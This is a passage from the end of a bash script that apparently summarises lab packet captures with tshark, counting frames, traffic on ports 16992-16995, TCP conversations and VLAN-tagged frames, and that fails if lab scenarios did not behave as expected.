  n=$(tshark -r "$f" 2>/dev/null | wc -l)
  amt=$(tshark -r "$f" -d tcp.port==16992,http -Y 'tcp.port in {16992..16995}' 2>/dev/null | wc -l)
  convs=$(tshark -r "$f" -q -z conv,tcp 2>/dev/null | grep -c '<->' || true)
  vl=$(tshark -r "$f" -Y vlan 2>/dev/null | wc -l)
  printf '  %-28s %7d bytes %5d frames %5d on 16992-16995 %4d tcp conversations %4d vlan-tagged\n' \
    "$(basename "$f")" "$(stat -c %s "$f")" "$n" "$amt" "$convs" "$vl" >&2
done
log "total size of pcaps/lab: $(du -sh "$OUT" | cut -f1)"
if [[ $TRUTH_RC -ne 0 ]]; then log "some scenarios did not behave as expected (see truth: lines above)"; exit 1; fi
log "done"
